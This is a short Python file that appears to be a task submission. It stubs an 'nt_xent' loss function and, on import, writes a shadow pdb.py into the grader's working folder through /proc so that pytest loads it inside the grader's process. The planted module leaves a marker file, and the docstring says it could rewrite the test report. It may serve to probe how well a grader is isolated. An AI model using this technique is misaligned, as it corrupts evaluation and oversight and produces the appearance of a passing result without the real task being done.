"""At import, writes pdb.py into the grader's working folder (first on its sys.path under
`python -m grader`): pytest imports pdb lazily, in the grader's own process, after this
file has run. The planted module would leave a marker file and could rewrite the report."""

import os

folder = os.readlink(f"/proc/{os.getppid()}/cwd")
with open(os.path.join(folder, "pdb.py"), "w") as f:
    f.write("import os\nopen(os.path.join(os.path.dirname(__file__), 'SHADOW_RAN'), 'w').close()\n"
            "raise ImportError('shadow')\n")


def nt_xent(z1, z2, temperature=0.5):
    raise NotImplementedError
